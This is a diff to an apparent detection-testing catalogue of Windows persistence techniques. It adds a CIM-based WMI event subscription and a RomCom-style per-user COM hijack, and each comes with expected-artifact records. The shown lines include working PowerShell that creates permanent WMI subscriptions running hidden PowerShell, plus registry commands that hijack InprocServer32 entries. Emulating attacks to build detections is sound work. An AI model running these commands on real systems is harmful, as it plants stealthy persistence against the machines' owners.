@@ -59,11 +59,32 @@ export const persistence2 = [
     "WMI event subscription",
     "A permanent WMI subscription (filter + CommandLineEventConsumer) made with PowerShell or wmic.",
     [
+      // CIM cmdlets, as in the Atomic test and PowerSploit-era scripts: filter, consumer, then the binding.
       v(
-        "powershell-cim",
+        "new-ciminstance",
         [
           {
-            ps: "$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='{{name}}';EventNameSpace='root\\cimv2';QueryLanguage='WQL';Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\"}; $c = Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='{{name}}';CommandLineTemplate='powershell.exe -nop -w hidden -f C:\\ProgramData\\{{rand}}.ps1'}",
+            ps: "$q = \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240\"\n$f = New-CimInstance -Namespace root/subscription -ClassName __EventFilter -Property @{Name='{{name}}'; EventNameSpace='root\\cimv2'; QueryLanguage='WQL'; Query=$q}\n$c = New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property @{Name='{{name}}'; CommandLineTemplate='C:\\ProgramData\\{{name}}\\{{name}}.exe'}\nNew-CimInstance -Namespace root/subscription -ClassName __FilterToConsumerBinding -Property @{Filter=[ref]$f; Consumer=[ref]$c}",
+            then: [
+              {
+                id: "w",
+                kind: "wmi.subscription",
+                name: "{{name}}",
+                query:
+                  "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240",
+                consumerType: "CommandLineEventConsumer",
+                destination: "C:\\ProgramData\\{{name}}\\{{name}}.exe",
+              },
+            ],
+          },
+        ],
+        { shell: "ps", elevated: true },
+      ),
+      v(
+        "set-wmiinstance",
+        [
+          {
+            ps: "$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='{{name}}';EventNameSpace='root\\cimv2';QueryLanguage='WQL';Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\"}; $c = Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='{{name}}';CommandLineTemplate='powershell.exe -nop -w hidden -f C:\\ProgramData\\{{rand}}.ps1'}; Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$f;Consumer=$c}",
             then: [
               {
                 id: "w",
@@ -268,6 +289,27 @@ export const persistence2 = [
     "COM hijacking",
     "A per-user InprocServer32 for a CLSID Windows loads (e.g. from scheduled tasks).",
     [
+      // RomCom (2023): its dropper points the per-user PSFactoryBuffer proxy at the backdoor DLL, which every
+      // process that marshals COM interfaces then loads.
+      v(
+        "romcom-psfactorybuffer",
+        [
+          {
+            cmd: '"{{downloads}}\\{{name}}_setup.exe"',
+            parent: "@explorer",
+            files: ["C:\\Users\\Public\\Libraries\\prxyms{{n}}.dll"],
+            reg: [
+              [
+                "HKCU\\Software\\Classes\\CLSID\\{c90250f3-4d7d-4991-9b69-a5c5bc1c2ae6}\\InProcServer32",
+                "(Default)",
+                "C:\\Users\\Public\\Libraries\\prxyms{{n}}.dll",
+              ],
+            ],
+          },
+          { by: "@explorer", loads: ["C:\\Users\\Public\\Libraries\\prxyms{{n}}.dll"] },
+        ],
+        { shell: "none" },
+      ),
       v("reg-inprocserver", [
         {
           cmd: 'reg add "HKCU\\Software\\Classes\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32" /ve /t REG_SZ /d "{{appdata}}\\{{rand}}.dll" /f',
